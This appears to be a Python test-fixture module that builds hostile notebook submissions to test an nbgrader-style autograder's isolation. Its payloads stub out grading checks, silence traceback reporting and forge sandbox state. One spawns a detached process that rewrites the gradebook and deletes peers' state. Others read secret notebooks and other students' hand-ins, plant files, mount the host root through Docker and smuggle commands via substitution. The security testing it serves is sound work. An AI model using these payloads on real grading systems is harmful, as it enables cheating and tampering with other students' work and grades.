"""Hostile submissions, each built from the released notebook the student was given.

Every attack is a function ``(Target) -> NotebookNode`` that starts from the release and
changes what a student can change: answer cells, unlocked cells, new cells, deleted cells,
edited locked cells. None of them answers an exercise honestly, so under a grader that
treats a submission as data each must score what the blank release scores, or less.

The attacks know the course root's absolute path (the worst case: a student who guessed
the grader's layout) and mark every file they plant and every process they start with
the campaign's token, so the tests can find them.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat

DOCKER = "01-docker-intro"
"""The assignment with ``%%docker`` answers and check cells (9 points)."""
LITERALS = "06-kubernetes-architecture"
"""The assignment with Python literal answers (``picks_node = "..."``)."""


@dataclass(frozen=True)
class Target:
    """What an attack starts from and may aim at."""

    release: nbformat.NotebookNode
    """The student's copy of the assignment."""
    root: Path
    """The course root the grader runs in."""
    token: str
    """Marks planted files and started processes."""
    victims: tuple[str, ...]
    """Honest students graded alongside."""


def meta(cell: nbformat.NotebookNode) -> dict:
    return cell.get("metadata", {}).get("nbgrader", {})


def code(source: str) -> nbformat.NotebookNode:
    """A new code cell without nbgrader metadata (what a student adds)."""
    return nbformat.v4.new_code_cell(source)


def copy(notebook: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """A deep copy (``from_dict`` rebuilds every dict and list)."""
    return nbformat.from_dict(notebook)


def setup_index(notebook: nbformat.NotebookNode) -> int:
    """The index of the cell that imports the checks."""
    return next(i for i, c in enumerate(notebook.cells) if "import checks as check" in c.source)


def after_setup(target: Target, *cells: str) -> nbformat.NotebookNode:
    """The release with ``cells`` inserted right after the set-up cell."""
    notebook = copy(target.release)
    index = setup_index(notebook) + 1
    notebook.cells[index:index] = [code(c) for c in cells]
    return notebook


def answers(target: Target, body: Callable[[str], str]) -> nbformat.NotebookNode:
    """The release with every answer cell's source replaced by ``body(grade_id)``."""
    notebook = copy(target.release)
    for cell in notebook.cells:
        if meta(cell).get("solution") and cell.cell_type == "code":
            cell.source = body(meta(cell)["grade_id"])
    return notebook


def first_answer(target: Target, source: str) -> nbformat.NotebookNode:
    """The release with the first answer cell replaced by ``source``."""
    notebook = copy(target.release)
    cell = next(c for c in notebook.cells if meta(c).get("solution") and c.cell_type == "code")
    cell.source = source
    return notebook


NOOP_OBJECT = """\
class _Pass:
    def __getattr__(self, name):
        return lambda *args, **kwargs: None

check = _Pass()
"""

NOOP_MODULE = """\
import grader.checks as _checks
for _name in _checks.__all__:
    if _name[0].islower():
        setattr(_checks, _name, lambda *args, **kwargs: None)
"""


def check_replaced_by_noop_object(target: Target) -> nbformat.NotebookNode:
    """(a) ``check`` becomes an object whose every attribute is a no-op."""
    return after_setup(target, NOOP_OBJECT)


def checks_module_functions_noop(target: Target) -> nbformat.NotebookNode:
    """(a) Every public function of ``grader.checks`` is swapped for a no-op."""
    return after_setup(target, NOOP_MODULE)


def setup_cell_rewritten(target: Target) -> nbformat.NotebookNode:
    """The unlocked set-up cell itself defines a no-op ``check``."""
    notebook = copy(target.release)
    cell = notebook.cells[setup_index(notebook)]
    cell.source = "%load_ext grader.magics\n" + NOOP_OBJECT
    return notebook


def check_redefined_before_each_test(target: Target) -> nbformat.NotebookNode:
    """A new cell defining ``check`` right before every grade cell."""
    notebook = copy(target.release)
    cells = []
    for cell in notebook.cells:
        if meta(cell).get("grade"):
            cells.append(code(NOOP_OBJECT))
        cells.append(cell)
    notebook.cells = cells
    return notebook


FORGE = """\
import json, time
from pathlib import Path
from grader.engine import sandbox_dir
from grader.dockercli import run_script
state = sandbox_dir()
run_script({script!r}, source="magic")
with open(state / "history.jsonl", "a") as log:
    for line in {script!r}.splitlines():
        entry = {{"argv": line.split(), "exit_code": 0, "engine": "sandbox",
                 "source": "magic", "time": time.time() + 3600}}
        log.write(json.dumps(entry) + "\\n")
(state / "exercises.json").write_text(json.dumps({{}}))
"""
FORGED_COMMANDS = {
    "ex1-first": "docker run --name first hello-world",
    "ex2-two": "docker run -d --name one nginx:alpine\ndocker run -d --name two nginx:alpine",
    "ex3-volume": "docker volume create site-data\n"
    "docker run -d --name vol-demo -v site-data:/usr/share/nginx/html nginx:alpine",
}


def forged_sandbox_state(target: Target) -> nbformat.NotebookNode:
    """(b) Python answers write history.jsonl, exercises.json and the engine state themselves."""
    return answers(target, lambda gid: FORGE.format(script=FORGED_COMMANDS.get(gid, "")))


def showtraceback_silenced(target: Target) -> nbformat.NotebookNode:
    """(c) nbgrader PR #1324: a kernel that never reports an error passes every test."""
    return after_setup(target, "get_ipython().showtraceback = lambda *args, **kwargs: None")


def interactiveshell_patched(target: Target) -> nbformat.NotebookNode:
    """(c) The same hole through the class, for every shell of the kernel."""
    return after_setup(
        target,
        "from IPython.core.interactiveshell import InteractiveShell\n"
        "InteractiveShell.showtraceback = lambda *args, **kwargs: None\n"
        "InteractiveShell._showtraceback = lambda *args, **kwargs: None",
    )


DETACHED = """\
import os, sqlite3, sys, tempfile, time, glob, shutil
deadline = time.time() + 3600
own = os.environ.get("COURSE_SANDBOX_DIR", "")
while time.time() < deadline and os.path.exists({gradebook!r}):
    for state in glob.glob(os.path.join(tempfile.gettempdir(), "*", "state")):
        if os.path.realpath(state) != os.path.realpath(own or "/nonexistent"):
            shutil.rmtree(state, ignore_errors=True)
    try:
        db = sqlite3.connect({gradebook!r}, timeout=1)
        db.execute("UPDATE grade SET manual_score = max_score")
        db.commit()
        db.close()
    except sqlite3.Error:
        pass
    time.sleep(0.2)
"""


def detached_process(target: Target) -> nbformat.NotebookNode:
    """(d) A process in its own session that outlives grading and attacks its neighbours.

    It keeps going for an hour, or until the course is deleted: long enough to be found
    alive after any grading, and the campaign's teardown kills it by pid.
    """
    script = DETACHED.format(gradebook=str(target.root / "gradebook.db"))
    return after_setup(
        target,
        "import subprocess, sys\n"
        f"subprocess.Popen([sys.executable, '-c', {script!r}, {target.token!r}],\n"
        "                 start_new_session=True, stdin=subprocess.DEVNULL,\n"
        "                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)",
    )


def reads_secrets(target: Target) -> nbformat.NotebookNode:
    """(e) Print the source notebooks, the gradebook and the others' hand-ins as output."""
    root = target.root
    return after_setup(
        target,
        "from pathlib import Path\n"
        f"root = Path({str(root)!r})\n"
        "hand_ins = sorted(root.glob('submitted/*/*/*.ipynb'))\n"
        "for path in sorted(root.glob('notebooks/*/*.ipynb')) + hand_ins:\n"
        "    print(path, path.read_text())\n"
        "print((root / 'gradebook.db').read_bytes()[:20000])",
    )


def plants_files(target: Target) -> nbformat.NotebookNode:
    """(e) Write into the grader package, the source notebooks, a neighbour's hand-in, release/."""
    victim = target.victims[0]
    return after_setup(
        target,
        "import grader\n"
        "from pathlib import Path\n"
        f"root = Path({str(target.root)!r})\n"
        f"name = 'planted-{target.token}.txt'\n"
        "targets = [Path(grader.__file__).with_name(name),\n"
        "           *root.glob('notebooks/*/'), *root.glob('release/*/'),\n"
        f"           *root.glob('submitted/{victim}/*/'), *root.glob('autograded/{victim}/*/')]\n"
        "for folder in targets:\n"
        "    path = folder if folder.suffix == '.txt' else folder / name\n"
        "    try:\n"
        "        path.write_text('planted')\n"
        "    except OSError as error:\n"
        "        print(error)",
    )


def hidden_marker_in_answer(target: Target) -> nbformat.NotebookNode:
    """(f) An answer cell holding the text of nbgrader's hidden-test marker, never closed."""
    return first_answer(target, "%%docker\n### BEGIN HIDDEN TESTS\ndocker ps")


def every_marker_in_student_cells(target: Target) -> nbformat.NotebookNode:
    """Unbalanced solution/hidden/mark-scheme markers in a new markdown and code cell."""
    markers = "### BEGIN SOLUTION\n### END HIDDEN TESTS\n### BEGIN MARK SCHEME\n### END SOLUTION"
    notebook = after_setup(target, f"# {markers}\nprint('markers')")
    notebook.cells.append(nbformat.v4.new_markdown_cell(markers + "\n### BEGIN HIDDEN TESTS"))
    return notebook


def locked_tests_edited(target: Target) -> nbformat.NotebookNode:
    """The locked test cells' sources replaced by ``pass``."""
    notebook = copy(target.release)
    for cell in notebook.cells:
        if meta(cell).get("grade") and cell.cell_type == "code":
            cell.source = "pass"
    return notebook


def test_cells_deleted(target: Target) -> nbformat.NotebookNode:
    """Every grade cell removed from the hand-in."""
    notebook = copy(target.release)
    notebook.cells = [c for c in notebook.cells if not meta(c).get("grade")]
    return notebook


def docker_binds_host_root(target: Target) -> nbformat.NotebookNode:
    """A ``%%docker`` answer that mounts ``/`` and reads the source notebook through it."""
    path = f"/host{target.root}/notebooks/{DOCKER}/{DOCKER}.ipynb"
    return first_answer(
        target,
        "%%docker\n"
        "docker run --name first -v /:/host hello-world\n"
        f"docker run --rm -v /:/host busybox cat {path}",
    )


def docker_binds_course(target: Target) -> nbformat.NotebookNode:
    """A ``%%docker`` answer that mounts the course folder and reads the source."""
    mount = f"-v {target.root}:/course"
    return first_answer(
        target,
        "%%docker\n"
        f"docker run --rm {mount} busybox cat /course/notebooks/{DOCKER}/{DOCKER}.ipynb\n"
        f"docker run --rm {mount} busybox sh -c 'echo x > /course/planted-{target.token}'",
    )


def writefile_escape(target: Target) -> nbformat.NotebookNode:
    """A ``%%writefile`` answer aimed out of the submission's folder."""
    return first_answer(
        target, f"%%writefile ../../../notebooks/{DOCKER}/planted-{target.token}.txt\nplanted"
    )


def docker_command_substitution(target: Target) -> nbformat.NotebookNode:
    """A ``%%docker`` answer whose ``$(...)`` runs Python instead of docker."""
    planted = target.root / f"planted-{target.token}"
    program = f"open({str(planted)!r}, 'w').write('x'); print('first')"
    return first_answer(
        target, f'%%docker\ndocker run --name "$(python3 -c "{program}")" hello-world'
    )


def docker_logs_follow(target: Target) -> nbformat.NotebookNode:
    """An answer that never ends by itself: ``docker logs -f``."""
    return first_answer(
        target, "%%docker\ndocker run -d --name first nginx:alpine\ndocker logs -f first"
    )


def huge_output(target: Target) -> nbformat.NotebookNode:
    """A cell printing 40 MB into the graded notebook."""
    return after_setup(target, "print('x' * 40_000_000)")


def literal_with_call(target: Target) -> nbformat.NotebookNode:
    """A literal answer that is an expression with a call planting a file."""
    planted = target.root / f"planted-{target.token}-literal"
    return answers(
        target,
        lambda gid: (
            f"picks_node = (open({str(planted)!r}, 'w').write('x') and 'kube-scheduler')"
            if gid == "ex1-picks-node"
            else "raise NotImplementedError()"
        ),
    )


def literal_with_import(target: Target) -> nbformat.NotebookNode:
    """Literal answers computed through ``__import__`` and ``eval`` from the source notebook."""
    source = str(target.root / "notebooks" / LITERALS / f"{LITERALS}.ipynb")
    names = {
        "ex1-picks-node": "picks_node",
        "ex2-pod-ip": "ip_after_kill",
        "ex4-quorum": "etcd_members",
        "ex5-snapshot": "snapshot_restores",
    }

    def body(grade_id: str) -> str:
        if grade_id not in names:
            return "raise NotImplementedError()"
        name = names[grade_id]
        return (
            f"{name} = [eval(line.split(' = ', 1)[1])\n"
            f"    for cell in __import__('json').load(open({source!r}))['cells']\n"
            f"    for line in ''.join(cell['source']).splitlines()\n"
            f"    if line.startswith('{name} = ')][0]"
        )

    return answers(target, body)


ATTACKS: dict[str, tuple[str, Callable[[Target], nbformat.NotebookNode]]] = {
    "check-noop-object": (DOCKER, check_replaced_by_noop_object),
    "checks-module-noop": (DOCKER, checks_module_functions_noop),
    "setup-cell-rewritten": (DOCKER, setup_cell_rewritten),
    "check-before-each-test": (DOCKER, check_redefined_before_each_test),
    "forged-sandbox-state": (DOCKER, forged_sandbox_state),
    "showtraceback-silenced": (DOCKER, showtraceback_silenced),
    "interactiveshell-patched": (DOCKER, interactiveshell_patched),
    "detached-process": (DOCKER, detached_process),
    "reads-secrets": (DOCKER, reads_secrets),
    "plants-files": (DOCKER, plants_files),
    "hidden-marker-in-answer": (DOCKER, hidden_marker_in_answer),
    "markers-in-student-cells": (DOCKER, every_marker_in_student_cells),
    "locked-tests-edited": (DOCKER, locked_tests_edited),
    "test-cells-deleted": (DOCKER, test_cells_deleted),
    "docker-binds-host-root": (DOCKER, docker_binds_host_root),
    "docker-binds-course": (DOCKER, docker_binds_course),
    "writefile-escape": (DOCKER, writefile_escape),
    "docker-command-substitution": (DOCKER, docker_command_substitution),
    "docker-logs-follow": (DOCKER, docker_logs_follow),
    "huge-output": (DOCKER, huge_output),
    "literal-with-call": (LITERALS, literal_with_call),
    "literal-with-import": (LITERALS, literal_with_import),
}
"""Student id -> (assignment, builder)."""
